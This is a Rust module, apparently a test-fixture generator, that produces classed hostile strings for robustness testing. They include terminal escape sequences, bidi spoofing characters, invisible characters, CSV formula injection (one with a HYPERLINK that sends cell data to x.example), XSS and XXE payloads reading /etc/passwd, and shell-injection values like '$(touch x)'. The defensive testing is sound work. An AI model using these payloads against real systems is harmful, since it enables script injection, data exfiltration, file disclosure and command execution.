//! Texts that would like to be more than texts, made class by class.

/// A text that tries something.
pub(super) struct Text {
    pub(super) class: &'static str,
    pub(super) text: String,
}

/// What begins a sequence of the terminal, in seven bits and in eight.
const CSI: [&str; 2] = ["\u{1b}[", "\u{9b}"];
const STRINGS: [(&str, &str); 5] = [
    ("\u{1b}]", "\u{9d}"),
    ("\u{1b}P", "\u{90}"),
    ("\u{1b}_", "\u{9f}"),
    ("\u{1b}^", "\u{9e}"),
    ("\u{1b}X", "\u{98}"),
];
/// How a string of the terminal ends, or does not.
const ENDS: [&str; 4] = ["\u{7}", "\u{1b}\\", "\u{9c}", ""];

/// All of them: more than two hundred.
pub(super) fn all() -> Vec<Text> {
    let mut texts = Vec::new();
    let mut add = |class, text: String| texts.push(Text { class, text });
    for_terminals(&mut add);
    unseen(&mut add);
    for_readers(&mut add);
    for_others(&mut add);
    texts
}

/// What terminals take for more than letters.
fn for_terminals(add: &mut impl FnMut(&'static str, String)) {
    for code in (0..0x20).chain(0x7f..0xa0) {
        let c = char::from_u32(code).unwrap();
        add("controls", format!("före{c}efter"));
    }
    for begin in CSI {
        for rest in
            ["31;5mröd", "2J", "1;1HFALSKT", "6n", "?1003h", "8;1;1t", "5i", "?1049l", "8mdold", "!p", ""]
        {
            add("sequences", format!("a{begin}{rest}b"));
        }
    }
    for (seven, eight) in STRINGS {
        for (begin, end) in [seven, eight].into_iter().zip(ENDS).chain([(seven, ""), (eight, "\u{7}")]) {
            add("strings", format!("a{begin}0;52;c;Zm9sag=={end}b"));
        }
    }
    for rest in ["c", "(0lqk", "#8", "7", "=", "D", "N", "", "%G"] {
        add("sequences", format!("a\u{1b}{rest}"));
    }
    for code in (0x202a..0x202f).chain(0x2066..0x206a).chain([0x61c, 0x200e, 0x200f]) {
        let c = char::from_u32(code).unwrap();
        add("direction", format!("svar {c}jen exe.pdf"));
    }
    add("direction", "ja\u{202e}\u{2066}// nej\u{2069}\u{2066}".into());
    for text in ["שלום עולם", "مرحبا بالعالم", "plan שלום 123 plan"] {
        add("letters", text.into());
    }
}

/// What does not show, or shows as something else.
fn unseen(add: &mut impl FnMut(&'static str, String)) {
    let unseen = [
        0xad, 0x34f, 0x115f, 0x1160, 0x17b4, 0x180b, 0x180e, 0x200b, 0x200c, 0x200d, 0x2060, 0x2061, 0x2062,
        0x2063, 0x2064, 0x206a, 0x206f, 0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffa, 0xfffb,
        0x1d173, 0x1bca0, 0xe0001, 0xe0041, 0xe0100, 0x2028, 0x2029,
    ];
    for code in unseen {
        let c = char::from_u32(code).unwrap();
        add("unseen", format!("a{c}b{c}{c}"));
    }
    add("unseen", "hemligt".chars().filter_map(|c| char::from_u32(0xe0000 + u32::from(c))).collect());
    for (mark, times) in [
        ('\u{301}', 5),
        ('\u{334}', 100),
        ('\u{488}', 20),
        ('\u{20dd}', 8),
        ('\u{e49}', 9),
        ('\u{5b0}', 9),
        ('\u{301}', 4_000),
    ] {
        add("marks", format!("e{}x", mark.to_string().repeat(times)));
        add("marks", format!("{}x", format!("{mark}\u{200d}").repeat(times.min(50))));
    }
    for code in [
        0xfffe, 0xffff, 0xfdd0, 0xfdef, 0x1_fffe, 0x10_ffff, 0xe0b0, 0xf8ff, 0xf_0000, 0xfffd, 0x2800, 0xa0,
        0x3000,
    ] {
        add("code points", format!("a{}b", char::from_u32(code).unwrap()));
    }
    for text in [
        "\\u{d800}\\udfff",
        "漢字かな交じり文",
        "ｆｕｌｌ ﾊﾝｶｸ",
        "👩‍👩‍👧‍👦🏳️‍🌈🇸🇪🏻",
        "A\u{30a}a\u{308}o\u{308}",
        "раураl",
        "ﬁ ß ıİ",
        "│┤╔ ► §±",
        "𝒥𝓪",
    ] {
        add("letters", text.into());
    }
    add("letters", format!("👩{}", "\u{200d}👩".repeat(300)));
}

/// What the readers of files take for more than texts.
fn for_readers(add: &mut impl FnMut(&'static str, String)) {
    for begin in [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        " =",
        "＝",
        "＋",
        "－",
        "＠",
        "\u{200b}=",
        "\u{1b}=",
        "|",
        "%",
    ] {
        add("formulas", format!("{begin}HYPERLINK(\"http://x.example?\"&A1)"));
    }
    for text in ["\"=1+1", ";=1+1", "',=1+1", "\"\";@SUM(1)", "-5", "-5 %"] {
        add("formulas", text.into());
    }
    for text in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)",
        "</style><script>1</script>",
        "</title></head><body onload=alert(1)>",
        "--><svg/onload=alert(1)>",
        "]]><x/>",
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
        "&b; &amp;lt; &#60;",
        "<iframe src=//x.example>",
        "<base href=//x.example>",
        "<meta http-equiv=refresh content=0>",
        "javascript:alert(1)",
        "</w:t></w:r></w:p>",
        "{{7*7}} ${7*7} #{7*7}",
    ] {
        add("markup", text.into());
    }
    for text in [
        "[a](javascript:alert(1))",
        "![x](http://x.example/x.png)",
        "# rubrik",
        "* punkt\n* punkt",
        "> citat",
        "---",
        "```\nkod",
        "a | b | c",
        "|---|---|",
        "<http://x.example>",
        "[x]: http://x.example",
        "**fet** _kursiv_ ~~bort~~",
        "@alla #12 !3 :smile:",
        "    indrag",
        "1. ett",
        "$$x$$",
        "\\",
    ] {
        add("markdown", text.into());
    }
}

/// What other readers and the eye take for something else.
fn for_others(add: &mut impl FnMut(&'static str, String)) {
    for text in [
        "\")),]}",
        "r#\"x\"#",
        "/* // */",
        "\\u{1b}[31m",
        "\\\"",
        "%s%n%x",
        "{} {0} {:?}",
        "\\0",
        "''",
        "`´",
        "”“",
    ] {
        add("brackets", text.into());
    }
    for text in [
        "../../etc/passwd",
        "/dev/stdin",
        "C:\\CON",
        "a\u{0}b",
        "~root",
        "$HOME",
        "$(touch x)",
        "`touch x`",
        "; touch x",
        "-rf",
        "--help",
        "*",
    ] {
        add("paths", text.into());
    }
    for text in
        ["Sparat: 1.1.1a = Ja\nfolj: inga fel", "a\r\nEND:VEVENT", "ja\r\u{8}\u{8}nej", "\n\n\n", "   "]
    {
        add("lines", text.into());
    }
    add("long", "x".repeat(4_000));
    add("long", "ord ".repeat(1_000));
    add("long", "rad\n".repeat(400));
    add("long", "\\".repeat(100));
}
